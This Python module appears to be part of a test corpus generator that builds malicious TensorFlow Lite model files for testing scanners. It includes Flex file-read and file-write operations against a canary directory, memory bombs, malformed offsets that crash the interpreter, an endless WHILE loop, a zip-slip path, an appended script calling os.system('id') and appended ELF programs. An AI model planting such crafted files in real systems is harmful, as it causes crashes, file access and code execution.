"""TFLite: custom and Flex operations, sizes, indices, loops, and what is appended (reference 2; 2.1 fact 7)."""

from __future__ import annotations

import io
import struct
import zipfile

import numpy as np

from . import flatbuffer as fb
from .build import node, tf
from .flatbuffer import CODES, schema
from .registry import Place, attack, fires


def _lite(
    id,
    category,
    names,
    about,
    make,
    value=None,
    also=(),
    trigger="inference",
    shows=None,
    suffix=".tflite",
):
    def build(place: Place):
        made = make(place)
        place.path.write_bytes(made if isinstance(made, bytes) else fb.pack(made))

    build.__doc__ = about
    attack(
        id, "tflite", category, names, value, also=also, trigger=trigger, fires=shows, suffix=suffix
    )(build)


FLOAT, INT32, STRING = schema.TensorType.FLOAT32, schema.TensorType.INT32, schema.TensorType.STRING


class _Raw(bytes):
    """Bytes where flexbuffers wants text: the converter writes a NodeDef as a string."""

    def encode(self, encoding="utf-8"):
        return bytes(self)


def _flex_options(name: str, definition: bytes) -> bytes:
    from flatbuffers import flexbuffers

    builder = flexbuffers.Builder()
    with builder.Vector():
        builder.String(name)
        builder.String(_Raw(definition))
    return bytes(builder.Finish())


def _flex(op: str, inputs, out_type, path: str | None = None, code: str | None = None, **attrs):
    """A model with one Flex operation on a constant string."""
    text = (path or "").encode()
    strings = struct.pack("<III", 1, 12, 12 + len(text)) + text
    tensors = [
        fb.tensor("x", [1, 4]),
        fb.tensor("path", [], STRING, 1),
        fb.tensor("out", [], out_type),
    ]
    options = _flex_options(op, _bytes(node(op, op, inputs, **attrs)))
    operator = fb.operator(0, [1] if path else [0], [2], custom=options)
    return fb.model(
        [fb.code(CODES.CUSTOM, code or f"Flex{op}")],
        [fb.subgraph(tensors, [0], [2], [operator])],
        [fb.buffer(strings)],
    )


def _bytes(message) -> bytes:
    return message.SerializeToString(deterministic=True)


def _custom(name: str, options=b""):
    tensors = [fb.tensor("x", [1, 4]), fb.tensor("y", [1, 4])]
    return fb.model(
        [fb.code(CODES.CUSTOM, name)],
        [fb.subgraph(tensors, [0], [1], [fb.operator(0, [0], [1], custom=options)])],
    )


def _op(
    builtin,
    options,
    kind,
    inputs,
    shapes,
    constants=(),
    out=(1, 4),
    out_type=FLOAT,
    in_shape=(1, 4),
):
    """A model with one builtin operation: the input and constants of int32."""
    tensors = [fb.tensor("x", in_shape)]
    buffers = []
    for number, (value, dtype) in enumerate(constants):
        held = np.asarray(value)
        buffers.append(fb.buffer(held.tobytes()))
        tensors.append(fb.tensor(f"c{number}", held.shape, dtype, number + 1))
    tensors.append(fb.tensor("y", out, out_type))
    operator = fb.operator(0, inputs, [len(tensors) - 1], options, kind)
    return fb.model(
        [fb.code(builtin)], [fb.subgraph(tensors, [0], [len(tensors) - 1], [operator])], buffers
    )


def i32(*values):
    return np.array(values, np.int32), INT32


_lite(
    "tl-custom-op",
    "custom-op",
    ["StealTensors"],
    "An operation that the interpreter does not have.",
    lambda p: _custom("StealTensors"),
    also=("code-execution",),
    trigger="load",
    shows=fires("tflite", "fails"),
)
_lite(
    "tl-custom-op-options",
    "custom-op",
    ["libevil.so", "RunScript"],
    "A custom operation with a program in its options.",
    lambda p: _custom("RunScript", b"#!/bin/sh\n/opt/libevil.so\n"),
    also=("code-execution", "payload"),
)
_lite(
    "tl-flex-read",
    "file-read",
    ["ReadFile"],
    "FlexReadFile of a constant path.",
    lambda p: _flex("ReadFile", ["path"], STRING, f"{p.canary}/secret.txt"),
    "ReadFile",
)
_lite(
    "tl-flex-write",
    "file-write",
    ["WriteFile"],
    "FlexWriteFile.",
    lambda p: _flex_write(p),
    "WriteFile",
)
_lite(
    "tl-flex-matching",
    "file-read",
    ["MatchingFiles"],
    "FlexMatchingFiles.",
    lambda p: _flex("MatchingFiles", ["path"], STRING, f"{p.canary}/*"),
    "MatchingFiles",
)
_lite(
    "tl-flex-mismatch",
    "parser-differential",
    ["ReadFile"],
    "The custom code says FlexAddV2, its node is ReadFile.",
    lambda p: _flex("ReadFile", ["path"], STRING, f"{p.canary}/secret.txt", code="FlexAddV2"),
    also=("file-read", "malformed"),
)
_lite(
    "tl-flex-py-func",
    "code-execution",
    ["PyFunc"],
    "FlexPyFunc.",
    lambda p: _flex(
        "PyFunc", ["x"], FLOAT, None, token="pyfunc_0", Tin=[tf.float32], Tout=[tf.float32]
    ),
)
_lite(
    "tl-flex-abort",
    "crash",
    ["Abort"],
    "FlexAbort.",
    lambda p: _flex("Abort", [], FLOAT, None, error_msg="x"),
)
_lite(
    "tl-fill-bomb",
    "memory",
    ["FILL"],
    "FILL of 160 GB.",
    lambda p: _op(
        CODES.FILL, None, 0, [1, 2], None, [i32(200000, 200000), (np.float32(1), FLOAT)], (0,)
    ),
    shows=fires("tflite-run", "exhausts"),
)
_lite(
    "tl-broadcast-bomb",
    "memory",
    ["BROADCAST_TO"],
    "BROADCAST_TO of 160 GB.",
    lambda p: _op(CODES.BROADCAST_TO, None, 0, [0, 1], None, [i32(100000, 100000, 1, 4)], (0,)),
)
_lite(
    "tl-tile-bomb",
    "memory",
    ["TILE"],
    "TILE.",
    lambda p: _op(
        CODES.TILE,
        schema.TileOptionsT(),
        schema.BuiltinOptions.TileOptions,
        [0, 1],
        None,
        [i32(200000, 200000)],
        (0,),
    ),
)
_lite(
    "tl-pad-bomb",
    "memory",
    ["PAD"],
    "PAD.",
    lambda p: _op(
        CODES.PAD,
        schema.PadOptionsT(),
        schema.BuiltinOptions.PadOptions,
        [0, 1],
        None,
        [(np.array([[200000, 200000]] * 2, np.int32), INT32)],
        (0,),
    ),
)
_lite(
    "tl-resize-bomb",
    "memory",
    ["RESIZE"],
    "RESIZE_BILINEAR.",
    lambda p: _op(
        CODES.RESIZE_BILINEAR,
        schema.ResizeBilinearOptionsT(),
        schema.BuiltinOptions.ResizeBilinearOptions,
        [0, 1],
        None,
        [i32(200000, 200000)],
        (0,),
        in_shape=(1, 2, 2, 1),
    ),
)
_lite(
    "tl-range-bomb",
    "memory",
    ["RANGE"],
    "RANGE of two billion.",
    lambda p: _op(
        CODES.RANGE,
        schema.RangeOptionsT(),
        schema.BuiltinOptions.RangeOptions,
        [1, 2, 3],
        None,
        [(np.int32(0), INT32), (np.int32(2**31 - 1), INT32), (np.int32(1), INT32)],
        (0,),
        INT32,
    ),
)
_lite(
    "tl-dims-bomb",
    "memory",
    ["tensor", "shape"],
    "An output of 9,000,000 by 9,000,000, each below a limit that a peer has (reference 1.3).",
    lambda p: _op(
        CODES.NEG,
        schema.NegOptionsT(),
        schema.BuiltinOptions.NegOptions,
        [0],
        None,
        (),
        (9_000_000, 9_000_000),
        in_shape=(9_000_000, 9_000_000),
    ),
    also=("malformed",),
    trigger="load",
    shows=None,
)
_lite(
    "tl-tensor-index",
    "malformed",
    ["index", "999"],
    "An operator takes tensor 999.",
    lambda p: _changed(lambda m: m.subgraphs[0].operators[0].inputs.__setitem__(0, 999)),
    trigger="load",
)
_lite(
    "tl-negative-index",
    "malformed",
    ["index", "-7"],
    "An operator takes tensor -7.",
    lambda p: _changed(lambda m: m.subgraphs[0].operators[0].inputs.__setitem__(0, -7)),
    trigger="load",
)
_lite(
    "tl-opcode-index",
    "malformed",
    ["opcode", "operator code"],
    "An operator has operator code 77.",
    lambda p: _changed(lambda m: setattr(m.subgraphs[0].operators[0], "opcodeIndex", 77)),
    trigger="load",
)
_lite(
    "tl-buffer-index",
    "malformed",
    ["buffer"],
    "A tensor is in buffer 5000.",
    lambda p: _changed(lambda m: setattr(m.subgraphs[0].tensors[1], "buffer", 5000)),
    trigger="load",
)
_lite(
    "tl-buffer-short",
    "malformed",
    ["buffer", "bytes"],
    "A tensor's buffer is shorter than its shape.",
    lambda p: _changed(lambda m: _shorten(m)),
    trigger="load",
)
_lite(
    "tl-negative-dims",
    "malformed",
    ["shape", "dim", "negative"],
    "A tensor with a negative dimension.",
    lambda p: _changed(lambda m: setattr(m.subgraphs[0].tensors[1], "shape", [-5, 4])),
    trigger="load",
)
_lite(
    "tl-output-index",
    "malformed",
    ["output"],
    "The graph gives out tensor 400.",
    lambda p: _changed(lambda m: setattr(m.subgraphs[0], "outputs", [400])),
    trigger="load",
)
_lite(
    "tl-root-offset",
    "malformed",
    ["root", "offset", "flatbuffer"],
    "The root offset lies beyond the file: the interpreter ends with SIGSEGV (2.1 fact 7).",
    lambda p: struct.pack("<I", 0x7FFFFFF0) + fb.dense()[4:],
    also=("crash", "unreadable"),
    trigger="load",
    shows=fires("tflite", "crashes"),
)
_lite(
    "tl-vector-length",
    "malformed",
    ["vector", "flatbuffer", "length"],
    "A vector longer than the file.",
    lambda p: _vector(),
    also=("crash", "unreadable"),
    trigger="parse",
)
_lite(
    "tl-truncated",
    "malformed",
    ["truncat", "flatbuffer", "end", "offset", "vector"],
    "The second half is missing.",
    lambda p: (lambda d: d[: len(d) // 2])(fb.dense((64, 64, 8))),
    also=("crash", "unreadable"),
    trigger="parse",
)
_lite(
    "tl-subgraph-loop",
    "hang",
    ["WHILE"],
    "A WHILE whose condition is the constant true.",
    lambda p: _while(),
    shows=fires("tflite-run", "hangs"),
)
_lite(
    "tl-subgraph-recursion",
    "crash",
    ["recurs", "subgraph", "CALL_ONCE", "WHILE", "IF"],
    "A subgraph that calls itself by IF.",
    lambda p: _recursion(),
    also=("hang", "malformed"),
)
_lite(
    "tl-stride-zero",
    "crash",
    ["stride", "CONV_2D", "POOL"],
    "A pooling with a stride of zero.",
    lambda p: _pool(),
    also=("malformed",),
)
_lite(
    "tl-zip-slip",
    "path-traversal",
    ["../", "slip"],
    "The zip that is appended for metadata has a member that climbs out.",
    lambda p: _appended("../../../tmp/slip.txt", b"x"),
    also=("payload", "file-write"),
    trigger="none",
)
_lite(
    "tl-zip-script",
    "payload",
    ["run.py", "labels"],
    "A Python script in the appended zip.",
    lambda p: _appended("run.py", b"import os\nos.system('id')\n"),
    also=("code-execution",),
    trigger="none",
)
_lite(
    "tl-appended-program",
    "payload",
    ["ELF", "append", "executable"],
    "A program behind the model.",
    lambda p: fb.dense() + _elf(),
    trigger="none",
    also=("code-execution",),
)
_lite(
    "tl-program-buffer",
    "payload",
    ["ELF", "executable"],
    "A program in a buffer that no tensor uses.",
    lambda p: _changed(lambda m: m.buffers.append(fb.buffer(_elf()))),
    trigger="none",
    also=("code-execution", "weights"),
)


def _elf() -> bytes:
    from .code import _elf as elf

    return elf()


def _changed(change):
    held = fb.unpack(fb.dense())
    for part in held.subgraphs:
        for operator in part.operators:
            operator.inputs = list(operator.inputs)
    change(held)
    return held


def _shorten(model):
    for tensor in model.subgraphs[0].tensors:
        data = model.buffers[tensor.buffer].data
        if data is not None and len(data) > 16:
            model.buffers[tensor.buffer].data = np.asarray(data)[:8]
            return


def _vector() -> bytes:
    data = bytearray(fb.dense())
    root = struct.unpack_from("<I", data, 0)[0]
    table = root - struct.unpack_from("<i", data, root)[0]
    field = struct.unpack_from("<H", data, table + 4 + 2 * 2)[0]  # subgraphs
    vector = root + field + struct.unpack_from("<I", data, root + field)[0]
    struct.pack_into("<I", data, vector, 0x10000000)
    return bytes(data)


def _while():
    """`x` goes round while `true`."""
    options = schema.WhileOptionsT()
    options.condSubgraphIndex, options.bodySubgraphIndex = 1, 2
    boolean = schema.TensorType.BOOL
    main = fb.subgraph(
        [fb.tensor("x", [1, 4]), fb.tensor("y", [1, 4])],
        [0],
        [1],
        [fb.operator(0, [0], [1], options, schema.BuiltinOptions.WhileOptions)],
    )
    cond = fb.subgraph(
        [fb.tensor("a", [1, 4]), fb.tensor("true", [], boolean, 1)], [0], [1], [], "cond"
    )
    body = fb.subgraph(
        [fb.tensor("a", [1, 4]), fb.tensor("b", [1, 4])],
        [0],
        [1],
        [fb.operator(1, [0], [1], schema.NegOptionsT(), schema.BuiltinOptions.NegOptions)],
        "body",
    )
    return fb.model(
        [fb.code(CODES.WHILE), fb.code(CODES.NEG)], [main, cond, body], [fb.buffer(b"\x01")]
    )


def _recursion():
    options = schema.IfOptionsT()
    options.thenSubgraphIndex, options.elseSubgraphIndex = 0, 0
    tensors = [
        fb.tensor("x", [1, 4]),
        fb.tensor("true", [], schema.TensorType.BOOL, 1),
        fb.tensor("y", [1, 4]),
    ]
    main = fb.subgraph(
        tensors, [0], [2], [fb.operator(0, [1, 0], [2], options, schema.BuiltinOptions.IfOptions)]
    )
    return fb.model([fb.code(CODES.IF)], [main], [fb.buffer(b"\x01")])


def _pool():
    options = schema.Pool2DOptionsT()
    options.strideW, options.strideH, options.filterWidth, options.filterHeight = 0, 0, 1, 1
    return _op(
        CODES.AVERAGE_POOL_2D,
        options,
        schema.BuiltinOptions.Pool2DOptions,
        [0],
        None,
        (),
        (1, 2, 2, 1),
        in_shape=(1, 2, 2, 1),
    )


def _flex_write(place):
    def strings(text):
        return struct.pack("<III", 1, 12, 12 + len(text)) + text

    tensors = [
        fb.tensor("x", [1, 4]),
        fb.tensor("path", [], STRING, 1),
        fb.tensor("text", [], STRING, 2),
        fb.tensor("y", [1, 4]),
    ]
    options = _flex_options("WriteFile", _bytes(node("write", "WriteFile", ["path", "text"])))
    operators = [
        fb.operator(0, [1, 2], [], custom=options),
        fb.operator(1, [0], [3], schema.NegOptionsT(), schema.BuiltinOptions.NegOptions),
    ]
    path = f"{place.canary}/out/tl-flex-write".encode()
    return fb.model(
        [fb.code(CODES.CUSTOM, "FlexWriteFile"), fb.code(CODES.NEG)],
        [fb.subgraph(tensors, [0], [3], operators)],
        [fb.buffer(strings(path)), fb.buffer(strings(b"owned"))],
    )


def _appended(name: str, data: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as out:
        out.writestr(zipfile.ZipInfo("labels.txt", (1980, 1, 1, 0, 0, 0)), b"cat\ndog\n")
        out.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return fb.dense() + held.getvalue()
